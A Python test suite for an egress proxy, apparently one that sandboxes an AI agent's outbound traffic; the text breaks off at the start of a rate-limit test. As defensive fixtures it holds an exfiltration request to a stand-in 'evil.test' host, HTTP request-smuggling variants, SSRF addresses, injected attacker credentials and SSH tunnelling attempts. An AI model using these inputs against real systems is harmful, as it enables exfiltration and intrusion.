"""Egress, dialler and recorder together: what passes, what is refused, and what the world saw of it."""

import base64
import contextlib
import gzip
import os
import re
import ssl
import struct
import subprocess
import threading
import time
import urllib.parse

from rig.bundle import AnswerReader, Bundle, match, route
from rig.core import Rig
from rig.servers import FORMS

RIG = True


def test_an_allowed_host_answers_with_the_injected_credential_only():
    with Rig() as rig:
        secret = rig.secret("token")
        with Bundle([route("allowed.test", token="TOKEN")], {"TOKEN": secret}) as bundle:
            answer = bundle.https("allowed.test", "/echo?a=1", "POST",
                                  [("Authorization", "Bearer attacker"), ("x-api-key", "attacker"),
                                   ("Cookie", "a=attacker"), ("X-Mine", "yes"), ("X_Api_Key", "attacker")], b"hello")
            assert answer.status == 200, (answer, bundle.log())
            echo = answer.json
            assert ["Authorization", "Bearer <secret token>"] in echo["headers"], echo
            assert ["X-Mine", "yes"] in echo["headers"]
            assert "attacker" not in str(echo["headers"])
            assert (echo["method"], echo["target"], echo["body"]) == ("POST", "/echo?a=1", "hello")
            record = bundle.records()
            assert len(record) == 1, record
            assert record[0]["verdict"] == "allowed" and record[0]["auth"] is True
            assert secret not in str(record)


def test_a_refused_host_is_told_inside_tls_and_nothing_is_looked_up():
    with Rig() as rig:
        with Bundle([route("allowed.test")]) as bundle:
            mark = rig.events.mark()
            answer = bundle.https("evil.test", "/steal?d=canary")
            assert answer.status == 403, answer
            assert "'evil.test'" in answer.text and "- host: evil.test" in answer.text
            assert rig.silence(mark) == []
            assert [r["reason"] for r in bundle.records()] == ["host_not_allowed"]
            assert bundle.https("allowed.test").status == 200  # the twin
            assert rig.events.all("dns", name="allowed.test")


def head(method="GET", target="/ok", host="allowed.test", extra="", body=""):
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n{body}".encode("latin1")


def test_keep_alive_reuses_one_upstream_connection():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        mark = rig.events.mark()
        with bundle.tls("allowed.test") as s:
            reader = AnswerReader(s)
            for i in range(3):
                s.sendall(head(target=f"/n/{i}"))
                assert reader.answer().json["target"] == f"/n/{i}"
        assert len(rig.events.all("tls", since=mark)) == 1
        assert len(bundle.records()) == 3


def test_pipelined_requests_are_judged_one_by_one():
    with Rig() as rig, Bundle([route("allowed.test", matches=[match(["GET"], [("prefix", "/ok")])])]) as bundle:
        with bundle.tls("allowed.test") as s:
            reader = AnswerReader(s)
            s.sendall(head(target="/ok/1") + head(target="/secret") + head(target="/ok/2"))
            assert reader.answer().json["target"] == "/ok/1"
            assert reader.answer().status == 403
        assert not rig.events.all("http", target="/secret")
        assert not rig.events.all("http", target="/ok/2")
        assert [(r["path"], r["reason"]) for r in bundle.records()] == [
            ("/ok/1", "allowed"), ("/secret", "path_not_allowed")]


def test_a_refusal_of_every_kind_of_connection_is_readable():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        mark = rig.events.mark()
        start = time.monotonic()
        for host, port, reason in (("evil.test", 443, "host_not_allowed"), ("allowed.test", 8443, "port_not_allowed"),
                                   ("192.0.2.9", 443, "address_literal"), ("2001:db8::9", 443, "address_literal")):
            with bundle.connect(host, port) as raw:
                context = bundle.context()
                s = context.wrap_socket(raw, server_hostname=host)  # also verifies the leaf's name
                answer = bundle.request(s, host)
                assert answer.status == 403 and host in answer.text, answer
                assert bundle.records()[-1]["reason"] == reason, bundle.records()[-1]
        for raw, entry in ((b"GET http://evil.test/?d=canary HTTP/1.1\r\nHost: evil.test\r\n\r\n", "absolute"),):
            with bundle.stream() as s:
                s.sendall(raw)
                answer = AnswerReader(s).answer()
                assert answer.status == 403 and "plain_ports: [80]" in answer.text, answer
                assert bundle.records()[-1]["entry"] == entry
        with bundle.connect("evil.test", 80, path=1) as s:  # the transparent path in clear
            s.sendall(head(host="evil.test"))
            assert AnswerReader(s).answer().status == 403
            assert bundle.records()[-1]["entry"] == "transparent"
        assert time.monotonic() - start < 8
        assert rig.silence(mark) == []


def test_a_refused_tunnel_of_another_protocol_is_closed_with_the_reason_recorded():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        mark = rig.events.mark()
        for first in (b"SSH-2.0-OpenSSH_9\r\n", b"\x00\x01\x02", b"\x05\x01\x00", b""):
            before = len(bundle.records())
            with bundle.connect("evil.test", 22) as s:
                s.sendall(first)
                assert s.recv(100) == b""
            assert [r["reason"] for r in bundle.records()[before:]] == ["host_not_allowed"], first
        with bundle.connect("allowed.test", 443) as s:  # an allowed host is not a way for SSH either
            s.sendall(b"SSH-2.0-OpenSSH_9\r\n")
            assert s.recv(100) == b""
        assert bundle.records()[-1]["reason"] == "not_http"
        assert rig.silence(mark) == []


def hello_fails(bundle, host, sni, context=None):
    raw = bundle.connect(host)
    context = context or bundle.context()
    context.check_hostname = False
    try:
        context.wrap_socket(raw, server_hostname=sni).close()
    except ssl.SSLError as e:
        return str(e)
    except OSError as e:
        return str(e)
    finally:
        raw.close()
    return None


def test_a_hello_that_names_another_host_or_none_gets_an_alert():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        mark = rig.events.mark()
        for host, sni, reason in (("allowed.test", "evil.test", "sni_mismatch"), ("allowed.test", None, "sni_missing"),
                                  ("evil.test", "allowed.test", "sni_mismatch"),
                                  ("192.0.2.9", "allowed.test", "sni_mismatch")):
            error = hello_fails(bundle, host, sni)
            assert error is not None and "UNRECOGNIZED_NAME" in error.upper(), (host, sni, error)
            bundle.wait_record(reason=reason)
        assert rig.silence(mark) == []
        assert hello_fails(bundle, "allowed.test", "ALLOWED.test") is None  # the twin: case does not matter


def client_hello(sni, ech):
    def ext(kind, data):
        return struct.pack(">HH", kind, len(data)) + data
    name = sni.encode()
    extensions = ext(0, struct.pack(">HBH", len(name) + 3, 0, len(name)) + name)
    extensions += ext(10, b"\0\4\0\x1d\0\x17") + ext(13, b"\0\4\4\3\10\4") + ext(43, b"\2\3\4")
    extensions += ext(51, struct.pack(">HHH", 36, 0x1d, 32) + os.urandom(32))
    if ech:
        extensions += ext(0xfe0d, b"\0" + os.urandom(40))
    body = b"\3\3" + os.urandom(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(message)) + message


def test_encrypted_client_hello_gets_an_alert():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        mark = rig.events.mark()
        for ech, first in ((True, 21), (False, 22)):  # alert; the twin: a server hello
            with bundle.connect("allowed.test") as s:
                s.sendall(client_hello("allowed.test", ech))
                got = s.recv(7)
                assert got[0] == first, (ech, got)
        bundle.wait_record(reason="ech")
        assert rig.silence(mark) == []


def test_fronting_is_misdirected():
    with Rig() as rig:
        secret = rig.secret("token")
        with Bundle([route("allowed.test", token="T"), route("other.test")], {"T": secret}) as bundle:
            mark = rig.events.mark()
            for host in ("evil.test", "other.test", "allowed.test:8443", "allowed.test@evil.test", "sub.allowed.test"):
                answer = bundle.https("allowed.test", raw=head(host=host))
                assert answer.status == 421, (host, answer)
                assert bundle.records()[-1]["reason"] == "host_mismatch"
            assert rig.silence(mark) == []
            for host in ("allowed.test", "ALLOWED.test.", "allowed.test:443"):
                answer = bundle.https("allowed.test", raw=head(host=host))
                assert answer.status == 200 and answer.json["host"] == "allowed.test", (host, answer)


SMUGGLED = [
    head(extra="Content-Length: 5\r\nContent-Length: 60\r\n", body="AAAAA"),
    head(extra="Content-Length: 5\r\nContent-Length: 5\r\n", body="AAAAA"),
    head(extra="Content-Length: 5, 5\r\n", body="AAAAA"),
    head(extra="Content-Length: +5\r\n", body="AAAAA"),
    head(extra="Content-Length: 0x5\r\n", body="AAAAA"),
    head(extra="Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", body="0\r\n\r\n"),
    head(extra="Transfer-Encoding: xchunked\r\n", body="0\r\n\r\n"),
    head(extra="Transfer-Encoding: gzip, chunked\r\n", body="0\r\n\r\n"),
    head(extra="Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", body="0\r\n\r\n"),
    head(extra="Transfer-Encoding : chunked\r\n", body="0\r\n\r\n"),
    head(extra="X: a\r\n folded\r\n"),
    head(extra="X: a\r\nHost: evil.test\r\n"),
    b"GET /ok HTTP/1.1\r\nHost: \r\n\r\n",
    b"GET /ok HTTP/1.1\r\n\r\n",
    b"GET /ok HTTP/1.1\nHost: allowed.test\n\n",
    b"GET /ok HTTP/1.1\r\nHost: allowed.test\r\nX: a\nY: b\r\n\r\n",
    b"GET /ok HTTP/1.1\r\nHost: allowed.test\r\nX: a\rY: b\r\n\r\n",
    b"GET /ok HTTP/1.1\r\nHost: allowed.test\r\nX: a\0b\r\n\r\n",
    b"GET /ok HTTP/1.1\r\nHost: allowed.test\r\n: nameless\r\n\r\n",
    b"GET /ok HTTP/1.1\r\nHost: allowed.test\r\nX y: a\r\n\r\n",
    b"GET  /ok HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    b"GET /ok HTTP/1.1 \r\nHost: allowed.test\r\n\r\n",
    b"GET /ok HTTP/2.0\r\nHost: allowed.test\r\n\r\n",
    b"GET /ok HTTP/0.9\r\nHost: allowed.test\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET http://allowed.test/ok HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    b"GET \xc3\xa9 HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    head(extra="Expect: 200-ok\r\n"),
]


def test_what_two_readers_could_read_differently_is_refused():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        mark = rig.events.mark()
        for raw in SMUGGLED:
            answer = bundle.https("allowed.test", raw=raw)
            assert answer.status == 400, (raw, answer)
            assert answer.headers["connection"] == "close"
        assert rig.silence(mark) == []
        assert {r["reason"] for r in bundle.records()} == {"malformed"}


def test_malformed_chunks_cut_the_request_off():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        for body in ("5;a=b\r\nAAAAA\r\n0\r\n\r\n", "g\r\n", "\r\n", "5\nAAAAA\r\n", "0005 \r\n", "5\r\nAAAAAAA\r\n0\r\n\r\n",
                     "0\r\nTrailer: x\r\n\r\n", "10000000000000000\r\n", "-1\r\n", "0x5\r\nAAAAA\r\n"):
            answer = bundle.https("allowed.test", raw=head("POST", extra="Transfer-Encoding: chunked\r\n", body=body))
            assert answer.status == 400, (body, answer)
        assert rig.events.all("http") == []  # none of them was ever a whole request
        answer = bundle.https("allowed.test", raw=head("POST", extra="Transfer-Encoding: chunked\r\n",
                                                       body="5\r\nAAAAA\r\n00A\r\nBBBBBBBBBB\r\n0\r\n\r\n"))
        assert answer.json["body"] == "AAAAABBBBBBBBBB"


def test_paths_are_judged_as_they_are_sent():
    with Rig() as rig, Bundle([route("allowed.test", matches=[match(paths=[("prefix", "/ok")])])]) as bundle:
        for target, status in (("/ok/../secret", 403), ("/ok/%2e%2e/secret", 403), ("//secret", 403), ("/secret", 403),
                               ("/ok/..;/secret", 400), ("/ok/%5c../secret", 400), ("/ok\\..\\secret", 400),
                               ("/ok/%00", 400), ("/../ok", 400), ("/ok/../../ok", 400), ("/ok/a%2fb", 403),
                               ("/ok/%zz", 400), ("/ok/#f", 400), ("/okay", 403), ("*", 400), ("/OK", 403)):
            answer = bundle.https("allowed.test", target)
            assert answer.status == status, (target, answer)
        assert rig.events.all("http") == []
        for target, sent in (("/ok/./a/../b?q=/../%zz", "/ok/b?q=/../%zz"), ("/%6fk/%7Ea%c3%a9", "/ok/~a%C3%A9"),
                             ("/ok/..%2e/x" if False else "/ok/...", "/ok/..."), ("/ok/a|b", "/ok/a%7Cb")):
            answer = bundle.https("allowed.test", target)
            assert answer.status == 200 and answer.json["target"] == sent, (target, answer)


@contextlib.contextmanager
def judged(path):
    """Host with rules on everything, and what a guest may ask of it; path 1: transparent, 2: by its proxy variables."""
    rules = [match(["GET"], [("prefix", "/ok"), ("regex", "/repos/[^/]+/[^/]+/pulls(/[0-9]+)?")]),
             match(["POST"], [("exact", "/graphql")], [("content-type", "exact", "application/json")]),
             match(["GET"], [("exact", "/search")], query=[("q", "regex", "[a-z ]+")])]
    with Rig() as rig, Bundle([route("allowed.test", matches=rules)]) as bundle:
        yield rig, bundle, lambda *a, **k: bundle.https("allowed.test", *a, path=path, **k)


ALLOWED_REQUESTS = [
    ("/ok", "GET", ()), ("/ok/deep?x=1", "GET", ()), ("/repos/a/b/pulls", "GET", ()), ("/repos/a/b/pulls/12", "GET", ()),
    ("/graphql", "POST", [("Content-Type", "application/json")]), ("/search?q=two%20words&page=2", "GET", ())]
REFUSED_REQUESTS = [
    ("/okay", "GET", (), "path_not_allowed"), ("/ok/../secret", "GET", (), "path_not_allowed"),
    ("/ok/%2e%2e/secret", "GET", (), "path_not_allowed"), ("//ok", "GET", (), "path_not_allowed"),
    ("/ok", "POST", (), "method_not_allowed"), ("/ok", "get", (), "method_not_allowed"),
    ("/repos/a/b/c/pulls", "GET", (), "path_not_allowed"), ("/repos/a/b/pulls/1x", "GET", (), "path_not_allowed"),
    ("/repos/a/b%2fpulls", "GET", (), "path_invalid"), ("/x/repos/a/b/pulls", "GET", (), "path_not_allowed"),
    ("/graphql", "POST", (), "header_not_allowed"), ("/graphql", "POST", [("Content-Type", "text/plain")], "header_not_allowed"),
    ("/graphql", "POST", [("Content-Type", "application/json"), ("Content-Type", "text/plain")], "header_not_allowed"),
    ("/graphql", "POST", [("Content_Type", "application/json")], "header_not_allowed"),
    ("/graphql", "POST", [("Content-Type", "application/json"), ("Connection", "content-type")], "header_not_allowed"),
    ("/search", "GET", (), "query_not_allowed"), ("/search?q=A1", "GET", (), "query_not_allowed"),
    ("/search?q=a&q=A1", "GET", (), "query_not_allowed"), ("/search?q=a&Q=A1", "GET", (), "query_not_allowed"),
    ("/search?q=a;q=A1", "GET", (), "query_not_allowed"), ("/search?q=a&q%5B%5D=A1", "GET", (), "query_not_allowed")]


def check_rules(path):
    with judged(path) as (rig, bundle, ask):
        for target, method, headers, reason in REFUSED_REQUESTS:
            answer = ask(target, method, headers)
            assert answer.status == 403, (target, method, headers, answer)
            assert bundle.records()[-1]["reason"] == reason, (target, bundle.records()[-1])
            assert reason == "path_invalid" or "value: /ok" in answer.text, answer.text
        assert rig.events.all("http") == [] and rig.events.all("dns") == []
        for target, method, headers in ALLOWED_REQUESTS:
            answer = ask(target, method, headers)
            assert answer.status == 200 and answer.json["target"] == target, (target, answer)


def test_rules_judge_path_method_headers_and_query_on_the_explicit_path():
    check_rules(path=2)


def test_rules_judge_path_method_headers_and_query_on_the_transparent_path():
    check_rules(path=1)


def test_the_same_requests_pass_an_egress_that_judges_none():
    """The control: with the judge of requests taken out, each of them is with the upstream."""
    rules = [match(["GET"], [("exact", "/nothing")])]
    with Rig() as rig, Bundle([route("allowed.test", matches=rules)], egress="bot-bottle-egress-lax") as bundle:
        for path in (1, 2):
            for target, method, headers, reason in REFUSED_REQUESTS:
                if reason == "path_invalid":
                    continue
                mark = rig.events.mark()
                assert bundle.https("allowed.test", target, method, headers, path=path).status == 200, (target, method)
                assert rig.events.all("http", since=mark, host="allowed.test"), target


def test_a_refusal_shows_what_its_route_allows_and_no_credential():
    with Rig() as rig:
        rules = [match(["GET", "HEAD"], [("prefix", "/ok")]), match(query=[("q", "regex", "[a-z]+")])]
        with Bundle([route("allowed.test", token="NAME_OF_TOKEN", matches=rules)],
                    {"NAME_OF_TOKEN": rig.secret("token")}) as bundle:
            answer = bundle.https("allowed.test", "/secret")
            assert answer.text == (
                "bot-bottle: refused: host 'allowed.test' (port 443) does not allow this request with this query.\n"
                "Allowed there, by the bottle's manifest:\n\n"
                "  matches:\n"
                "    - methods: [GET, HEAD]\n"
                "      paths:\n"
                "        - {type: prefix, value: /ok}\n"
                "    - query:\n"
                "        - {name: q, type: regex, value: \"[a-z]+\"}\n"), answer.text


def test_no_regex_takes_longer_than_its_value():
    """What keeps a backtracking matcher busy for ever is answered at once, and others go on."""
    evil = "/" + "a" * 8000
    rules = [match(paths=[("regex", "/(a+)+b"), ("regex", "/(a|aa)+b"), ("regex", "/([a-z]+)*[0-9]")])]
    with Rig(), Bundle([route("allowed.test", matches=rules)]) as bundle:
        start = time.monotonic()
        for _ in range(5):
            assert bundle.https("allowed.test", evil).status == 403
        assert time.monotonic() - start < 5
        assert bundle.https("allowed.test", evil + "b").status == 200


def test_an_encoded_slash_passes_where_no_rule_judges_paths():
    with Rig(), Bundle([route("allowed.test")]) as bundle:
        assert bundle.https("allowed.test", "/@scope%2fname").json["target"] == "/@scope%2Fname"


def test_upgrades_trace_and_nested_connect_are_refused():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        mark = rig.events.mark()
        upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAA\r\nSec-WebSocket-Version: 13\r\n"
        assert bundle.https("allowed.test", raw=head(extra=upgrade)).status == 426
        assert bundle.https("allowed.test", raw=head("TRACE")).status == 405
        assert bundle.https("allowed.test", raw=head("CONNECT", "allowed.test:443")).status == 400
        assert rig.silence(mark) == []
        assert [r["reason"] for r in bundle.records()] == ["upgrade_refused", "method_refused", "nested_connect"]


def test_plain_http_passes_only_where_it_is_listed():
    with Rig() as rig, Bundle([route("plain.test", plain=(80,)), route("allowed.test")]) as bundle:
        with bundle.stream() as s:  # absolute form, twice on one connection
            reader = AnswerReader(s)
            for i in range(2):
                s.sendall(head(target=f"http://plain.test/{i}", host="plain.test"))
                assert reader.answer().json["target"] == f"/{i}"
            s.sendall(head(target="http://allowed.test/", host="allowed.test"))
            assert reader.answer().status == 403
        with bundle.connect("plain.test", 80, path=1) as s:
            s.sendall(head(host="plain.test"))
            assert AnswerReader(s).answer().json["target"] == "/ok"
        with bundle.connect("allowed.test", 443) as s:  # clear text to a TLS port
            s.sendall(head())
            answer = AnswerReader(s).answer()
            assert answer.status == 403 and "TLS only" in answer.text, answer
        with bundle.stream() as s:  # Host and target disagree (N11)
            s.sendall(head(target="http://plain.test/", host="evil.test"))
            assert AnswerReader(s).answer().status == 400
        tls = bundle.tls("plain.test", 80)  # TLS to a port that is listed as plain
        assert bundle.request(tls, "plain.test:80").status == 403
        tls.close()
        assert not rig.events.all("dns", name="allowed.test") and not rig.events.all("dns", name="evil.test")


def test_bad_hosts_are_refused_before_anything_is_matched():
    with Rig() as rig, Bundle([route("allowed.test", plain=(80,)), route("*.wild.test")]) as bundle:
        mark = rig.events.mark()
        for host in ("evil.test\\@allowed.test", "allowed.test@evil.test", "allowed%2etest", "allowed..test", "a_b.test",
                     "*.wild.test", "-allowed.test", "[::1", "allowed.test%00.evil.test"):
            with bundle.stream() as s:
                s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                assert AnswerReader(s).answer().status == 400, host
            with bundle.stream() as s:
                s.sendall(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                assert AnswerReader(s).answer().status == 400, host
        for raw in (b"CONNECT evil.test\0.allowed.test:443 HTTP/1.1\r\nHost: x\r\n\r\n",
                    "CONNECT \u0430llowed.test:443 HTTP/1.1\r\nHost: x\r\n\r\n".encode(),
                    b"CONNECT allowed.test HTTP/1.1\r\nHost: x\r\n\r\n",
                    b"CONNECT allowed.test:0 HTTP/1.1\r\nHost: x\r\n\r\n",
                    b"CONNECT allowed.test:70000 HTTP/1.1\r\nHost: x\r\n\r\n"):
            with bundle.stream() as s:
                s.sendall(raw)
                assert AnswerReader(s).answer().status == 400, raw
        for host in ("notallowed.test", "allowed.test.evil.test", "wild.test", "sub.allowed.test"):
            assert bundle.https(host).status == 403
        assert rig.silence(mark) == []
        assert bundle.https("a.b.wild.test").status == 200  # the twin


def test_special_addresses_are_refused_and_ordinary_ones_beside_them_used():
    names = {"loop4.test": "127.0.0.1", "loop6.test": "::1", "private.test": "10.0.0.1", "ula.test": "fd00::1",
             "linklocal.test": "169.254.169.254", "mapped.test": "127.0.0.1", "cgn.test": "100.64.0.1",
             "zero.test": "0.0.0.0", "multicast.test": "224.0.0.1", "alias.test": "127.0.0.1"}
    with Rig() as rig, Bundle([route(n) for n in (*names, "mixed.test", "goodalias.test", "v6.test", "rebind.test")]) as bundle:
        for name, address in names.items():
            answer = bundle.https(name)
            assert answer.status == 403 and address in answer.text, (name, answer)
            assert bundle.records()[-1]["reason"] == "address_not_allowed"
        assert rig.events.all("accept") == []
        for name in ("mixed.test", "goodalias.test", "v6.test"):
            answer = bundle.https(name)
            assert answer.status == 200 and not answer.json["address"].startswith("127."), (name, answer)
        for _ in range(6):  # the name alternates between an ordinary and a loopback address
            assert bundle.https("rebind.test").status in (200, 403)
        assert not [e for e in rig.events.all("accept") if e["address"].startswith("127.")]


def test_an_upstream_must_prove_its_name():
    with Rig() as rig:
        secret = rig.secret("token")
        hosts = ("badcert.test", "wrongname.test", "expired.test")
        with Bundle([route(h, token="T") for h in hosts], {"T": secret}) as bundle:
            for host in hosts:
                answer = bundle.https(host)
                assert answer.status == 502 and "certificate" in answer.text, (host, answer)
                assert bundle.records()[-1]["reason"] == "upstream_tls"
            assert rig.events.all("http") == []


def test_names_that_do_not_resolve_are_told():
    with Rig(), Bundle([route("nowhere.test"), route("broken.test")]) as bundle:
        for host in ("nowhere.test", "broken.test"):
            answer = bundle.https(host)
            assert answer.status == 502 and "does not resolve" in answer.text, answer
            assert bundle.records()[-1]["reason"] == "name_not_found"


def test_server_sent_events_are_not_held_back():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        with bundle.tls("allowed.test") as s:
            reader = AnswerReader(s)
            s.sendall(head(target="/gated?gate=one"))
            assert reader.head().headers["transfer-encoding"] == "chunked"
            assert reader.chunk() == b"data: first\n\n"  # it is here although the rest was not sent
            rig.gate("one")
            assert reader.chunk() == b"data: second\n\n"
            assert reader.chunk() == b""


def test_bodies_of_every_framing_pass_whole():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        big = os.urandom(3_000_000)
        with bundle.tls("allowed.test") as s:
            reader = AnswerReader(s)
            sender = threading.Thread(target=s.sendall, args=(
                head("POST", "/chunked", extra=f"Content-Length: {len(big)}\r\n") + big,))
            sender.start()
            assert reader.answer().body == big
            sender.join()
        assert len(bundle.https("allowed.test", "/bytes?n=1000000").body) == 1_000_000
        assert bundle.https("allowed.test", "/close").body == b"until the end"
        assert bundle.https("allowed.test", "/status/204").status == 204
        assert bundle.https("allowed.test", "/status/304").status == 304
        answer = bundle.https("allowed.test", "/x", "HEAD")
        assert answer.status == 200 and answer.body == b""
        with bundle.tls("allowed.test") as s:  # 100-continue
            reader = AnswerReader(s)
            s.sendall(head("POST", "/c", extra="Content-Length: 4\r\nExpect: 100-continue\r\n"))
            assert reader.head().status == 100
            s.sendall(b"body")
            echo = reader.answer().json
            assert echo["body"] == "body" and not [h for h in echo["headers"] if h[0].lower() == "expect"]


def test_hop_by_hop_fields_stay_behind():
    with Rig(), Bundle([route("allowed.test")]) as bundle:
        extra = ("Connection: X-Secret-Hop, keep-alive\r\nX-Secret-Hop: 1\r\nKeep-Alive: 5\r\nProxy-Authorization: Basic eDp5\r\n"
                 "Proxy-Connection: keep-alive\r\nTE: trailers\r\nX-Stays: 1\r\nAuthorization: Bearer mine\r\n")
        names = {h[0].lower() for h in bundle.https("allowed.test", raw=head(extra=extra)).json["headers"]}
        assert names == {"host", "x-stays", "authorization"}, names  # no bound credential here: the agent's own passes


PLACES = [  # where the secret S goes, and what the upstream sees
    ({}, "S", ("authorization", "Bearer S")), ({"scheme": "token"}, "S", ("authorization", "token S")),
    ({"scheme": "Basic", "user": "x-access-token"}, "S", ("authorization", "Basic " + "B(x-access-token:S)")),
    ({"scheme": "Basic"}, "me:S", ("authorization", "Basic " + "B(me:S)")),
    ({"header": "x-api-key"}, "S", ("x-api-key", "S")), ({"query": "key"}, "S", None)]


def test_a_credential_goes_where_its_route_says():
    for options, variable, want in PLACES:
        with Rig() as rig:
            secret = "a+/=?&#" + rig.secret("token")
            with Bundle([route("allowed.test", token="T", **options)], {"T": variable.replace("S", secret)}) as bundle:
                for path in (1, 2):
                    mark = rig.events.mark()
                    answer = bundle.https("allowed.test", "/echo?a=1&b=%20x", path=path)
                    assert answer.status == 200, (options, answer, bundle.log())
                    event = rig.events.all("http", since=mark)[0]
                    headers = {k.lower(): v for k, v in event["headers"]}
                    if want is None:
                        assert event["target"] == "/echo?a=1&b=%20x&key=" + urllib.parse.quote(secret, safe="-._~"), event["target"]
                    else:
                        text = want[1].replace("S", secret)
                        if "B(" in text:
                            inner = text[text.index("(") + 1:-1]
                            text = "Basic " + base64.b64encode(inner.encode()).decode()
                        assert headers[want[0]] == text, (options, headers)
                        assert event["target"] == "/echo?a=1&b=%20x"
                    assert headers["accept-encoding"] == "identity"
                assert secret not in str(bundle.records()) + bundle.log()
                assert all(r["auth"] is True and "key=" not in r["path"] for r in bundle.records())


FOREIGN = ["Authorization: Bearer ATTACKER", "Authorization: Basic ATTACKER==", "x-api-key: ATTACKER", "X_Api_Key: ATTACKER",
           "Cookie: session=ATTACKER", "Cookie2: ATTACKER", "Private-Token: ATTACKER", "X-Auth-Token: ATTACKER",
           "Proxy-Authorization: Basic ATTACKER", "X-Forwarded-Access-Token: ATTACKER", "X-Anything: Bearer ATTACKER",
           "X-Other: basic ATTACKERATTACKER==", "X-Third: token ATTACKERATTACKER", "api-key: ATTACKER"]
FOREIGN_QUERIES = ("api_key=ATTACKER", "a=1&access_token=ATTACKER", "api%5fkey=ATTACKER", "token=ATTACKER", "a=b;auth=ATTACKER",
                   "X-Amz-Signature=ATTACKER", "sig=ATTACKER", "api_key[]=ATTACKER", "+token=ATTACKER", "jwt=ATTACKER")


def test_no_other_credential_leaves_to_a_host_with_a_bound_one():
    """A1: the vendor's own API as a drop box, with the attacker's key. On both paths, for each place of ours."""
    for options, variable, _ in PLACES:
        with Rig() as rig:
            with Bundle([route("allowed.test", token="T", **options)], {"T": variable.replace("S", rig.secret("t"))}) as bundle:
                for path in (1, 2):
                    mark = rig.events.mark()
                    for line in FOREIGN:
                        headers = [tuple(line.split(": ", 1)), ("X-Mine", "stays")]
                        assert bundle.https("allowed.test", "/f", "POST", headers, path=path).status == 200, line
                    assert bundle.https("allowed.test", "/f", headers=[tuple(f.split(": ", 1)) for f in FOREIGN], path=path).status == 200
                    seen = rig.events.all("http", since=mark)
                    assert len(seen) == len(FOREIGN) + 1
                    for event in seen:
                        assert b"ATTACKER" not in event["head"], (options, event["head"])
                    assert b"X-Mine: stays" in seen[0]["head"]
                    mark = rig.events.mark()
                    for query in FOREIGN_QUERIES:
                        answer = bundle.https("allowed.test", f"/f?{query}", path=path)
                        assert answer.status == 403 and "bound credential" in answer.text, (query, answer)
                        assert bundle.records()[-1]["reason"] == "foreign_credential"
                    with bundle.stream(path) as s:
                        s.sendall(b"CONNECT user:ATTACKER@allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
                        assert AnswerReader(s).answer().status == 400
                    assert rig.silence(mark) == []


def test_the_same_credentials_leave_to_a_host_without_a_bound_one():
    """The control: pinning is what keeps them back."""
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        for path in (1, 2):
            for line in FOREIGN:
                if line.startswith("Proxy-"):
                    continue  # a hop's own field, whatever the host
                mark = rig.events.mark()
                assert bundle.https("allowed.test", headers=[tuple(line.split(": ", 1))], path=path).status == 200
                assert b"ATTACKER" in rig.events.all("http", since=mark)[0]["head"], line
            for query in FOREIGN_QUERIES:
                mark = rig.events.mark()
                assert bundle.https("allowed.test", f"/f?{query}", path=path).status == 200
                assert "ATTACKER" in rig.events.all("http", since=mark)[0]["target"], query


def test_the_placeholder_of_a_query_credential_is_replaced():
    with Rig() as rig:
        secret = rig.secret("t")
        with Bundle([route("allowed.test", token="T", query="key")], {"T": secret}) as bundle:
            for query, want in (("key=placeholder", "?key="), ("a=1&key=x&b=2&KEY=y&k%65y=z&key[]=w", "?a=1&b=2&key="), ("", "?key=")):
                mark = rig.events.mark()
                assert bundle.https("allowed.test", f"/f?{query}").status == 200
                assert rig.events.all("http", since=mark)[0]["target"] == f"/f{want}{secret}", query


def test_git_fetches_where_a_route_says_so_and_pushes_nowhere():
    pushes = ("/a/b.git/info/refs?service=git-receive-pack", "/a/b.git/git-receive-pack", "/a/b.git%2fgit-receive-pack",
              "/a/b.git//git-receive-pack", "/a/b.git/git-receive-pack;x=1", "/a/b.git/%67it-receive-pack",
              "/a/b.git/info/refs?service=git%2Dreceive-pack", "/a/b.git/info/lfs/objects/batch")
    fetches = ("/a/b.git/info/refs?service=git-upload-pack", "/a/b.git/git-upload-pack", "/a/b.git/info/refs")
    with Rig() as rig, Bundle([route("allowed.test"), route("other.test", git_fetch=True)]) as bundle:
        for path in (1, 2):
            mark = rig.events.mark()
            for target in pushes:
                for host in ("allowed.test", "other.test"):
                    answer = bundle.https(host, target, "POST", path=path)
                    assert answer.status == 403 and "git push" in answer.text, (target, answer)
                    assert bundle.records()[-1]["reason"] == "git_push_refused"
            for target in fetches:
                answer = bundle.https("allowed.test", target, path=path)
                assert answer.status == 403 and "git: {fetch: true}" in answer.text, (target, answer)
                assert bundle.records()[-1]["reason"] == "git_fetch_not_allowed"
            assert rig.silence(mark) == []
            for target in fetches:
                assert bundle.https("other.test", target, path=path).json["target"] == target  # the twin
    with Rig() as rig, Bundle([route("allowed.test")], egress="bot-bottle-egress-lax") as bundle:  # the control
        for target in pushes + fetches:
            assert bundle.https("allowed.test", target, "POST").status == 200
        assert len(rig.events.all("http")) == len(pushes + fetches)


def test_a_rate_holds_for_requests_and_for_bytes():
    with Rig() as rig:
